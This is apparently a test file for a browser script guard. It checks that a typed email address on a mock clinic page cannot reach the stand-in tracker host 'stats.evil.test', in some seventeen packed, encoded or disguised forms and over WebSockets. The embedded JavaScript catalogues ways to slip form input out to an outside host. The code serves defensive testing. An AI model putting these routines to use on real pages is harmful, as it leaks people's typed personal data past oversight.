"""Bodies that take reading: packed, in pieces, in files of a form, over a socket.

What holds something typed stays, the rest goes.
"""

import threading

import pytest
from websockets.exceptions import ConnectionClosed
from websockets.sync.server import serve

from scriptward.app.guard import guard_script
from scriptward.policy.language.reader import parsed

HOST = "stats.evil.test"
SOCKETS = "127.0.0.1"
POLICY = f"""
version: 1
site: www.clinic.test
mode: enforce
defaults: {{"*": forbid}}
recipients:
  stats: {{hosts: [{HOST}, "{SOCKETS}:*"], baa: none}}
scripts:
  - {{match: "/**", approved: {{by: lab, date: 2026-11-01, why: "the page's own"}}}}
rules:
  - {{id: own, permit: [send, read, load], to: self}}
  - {{id: counted, permit: [send, load], to: stats}}
  - {{id: typed, forbid: send, to: stats, data: [email]}}
"""
PAGE = (
    "<!doctype html><meta charset=utf-8><script src=/unread-guard.js></script><title>Visit</title>"
    "<link rel=icon href='data:,'><body><input name=email><script src=/unread.js></script>"
)
TYPED = "jane.roe@example.test"
OTHER = "none.said@example.org"
WAYS = """
const packed = async (text, how) =>
  new Uint8Array(await new Response(stream(text, how)).arrayBuffer());
const stream = (text, how) => new Blob([text]).stream().pipeThrough(new CompressionStream(how));
const post = (url, body) => fetch(url, { method: "POST", mode: "no-cors", body });
const long = (said) =>
  JSON.stringify([...Array(200).keys()].map((i) => ({ i, at: i * 7919 }))) + said;
const base64 = async (said) =>
  encodeURIComponent(btoa(String.fromCharCode(...(await packed(said, "gzip")))));
const form = (name, value, ...more) => {
  const data = new FormData();
  data.append("event", "{}");
  data.append(name, value, ...more);
  return data;
};
const ways = {
  gzip: async (said, url) => post(url, await packed(long(said), "gzip")),
  short: async (said, url) => post(url, await packed(said, "gzip")),
  zlib: async (said, url) => post(url, await packed(long(said), "deflate")),
  deflate: async (said, url) => post(url, await packed(long(said), "deflate-raw")),
  buffer: async (said, url) => post(url, (await packed(said, "gzip")).buffer),
  blob: async (said, url) =>
    navigator.sendBeacon(url, new Blob([await packed(long(said), "gzip")], { type: "text/plain" })),
  "blob-of-a-stream": async (said, url) =>
    post(url, await new Response(stream(long(said), "gzip")).blob()),
  "blob-of-a-blob": (said, url) => post(url, new Blob([new Blob(["a", said])]).slice(1)),
  envelope: async (said, url) =>
    post(url, new Blob(['{"type":"replay"}\\n', await packed(long(said), "deflate")])),
  concatenated: async (said, url) => {
    const head = new TextEncoder().encode('{"sent":1}\\n{"segment_id":0}\\n');
    const rest = await packed(long(said), "deflate");
    const all = new Uint8Array(head.length + rest.length);
    all.set(head);
    all.set(rest, head.length);
    return post(url, all);
  },
  base64: async (said, url) => post(url, "data=" + (await base64(long(said)))),
  address: async (said, url) => post(url + "&d=" + (await base64(said))),
  form: async (said, url) =>
    post(url, form("segment", new Blob([await packed(long(said), "deflate")]), "a-1")),
  picture: (said, url) => { new Image().src = url + "&/" + said + ".png"; },
  "name-of-a-file": (said, url) => post(url, form("note", new File(["-"], said + ".txt"))),
  file: (said, url) => post(url, form("note", new File([said], "note.txt"))),
  xhr: async (said, url) => {
    const body = await packed(long(said), "gzip");
    const asked = new XMLHttpRequest();
    asked.open("POST", url);
    return new Promise((done) => {
      asked.onloadend = done;
      asked.send(body);
    });
  },
};
const tried = async (said, about) => {
  for (const [way, send] of Object.entries(ways))
    try { await send(said, AT + way + "?" + about); } catch {}
};
const sockets = {
  text: (said) => said,
  bytes: (said) => new TextEncoder().encode(said),
  blob: (said) => new Blob([said]),
  packed: (said) => packed(said, "gzip"),
};
const talk = (url, said) => new Promise((done, failed) => {
  const socket = new WebSocket(url);
  socket.onerror = failed;
  socket.onopen = async () => {
    for (const [way, make] of Object.entries(sockets)) socket.send(await make(said));
    socket.send("the end");
  };
  socket.onmessage = () => { socket.close(); done(socket.bufferedAmount); };
});
"""
NAMES = (
    *("gzip", "short", "zlib", "deflate", "buffer", "blob", "blob-of-a-stream", "blob-of-a-blob"),
    *("envelope", "concatenated", "base64", "address", "form", "file", "xhr"),
    *("picture", "name-of-a-file"),
)


@pytest.fixture(scope="module")
def visit(chromium, site):
    """A page on which the address was typed."""
    site.files["/unread-guard.js"] = guard_script(parsed(POLICY), headers=True)
    site.files["/unread.js"] = f"const AT = 'http://{HOST}/';{WAYS}".encode()
    site.files["/unread"] = PAGE.encode()
    site.reached.clear()
    context = chromium.new_context()
    page = context.new_page()
    page.goto("http://www.clinic.test/unread")
    page.fill("input", TYPED)
    yield page
    context.close()


@pytest.fixture(scope="module")
def reached(visit, site):
    """Paths asked for: each way with another text, and with what was typed."""
    visit.evaluate(f"tried('{OTHER}', 'other')")
    visit.evaluate(f"tried('{TYPED}', 'typed')")
    visit.wait_for_load_state("networkidle")
    return {path.strip("/").partition("&")[0] for path in site.reached}


@pytest.mark.parametrize("way", NAMES)
def test_a_body_is_read_before_it_goes(reached, way):
    assert f"{way}?other" in reached
    assert f"{way}?typed" not in reached


@pytest.fixture(scope="module")
def socket():
    """A server of sockets: its address, and what it was told."""
    told: list[str | bytes] = []

    def hear(connection) -> None:
        try:
            for message in connection:
                told.append(message)
                if message == "the end":
                    connection.send("")
        except ConnectionClosed:
            return

    with serve(hear, SOCKETS, 0) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"ws://{SOCKETS}:{server.socket.getsockname()[1]}/", told
        server.shutdown()


def test_a_message_of_a_socket_with_what_was_typed_is_lost_and_others_go(visit, socket):
    url, told = socket
    visit.evaluate(f"talk('{url}', '{OTHER}')")
    others = list(told)
    told.clear()
    visit.evaluate(f"talk('{url}', '{TYPED}')")

    assert others[:3] == [OTHER, OTHER.encode(), OTHER.encode()]
    assert len(others) == 5
    assert told == ["the end"]
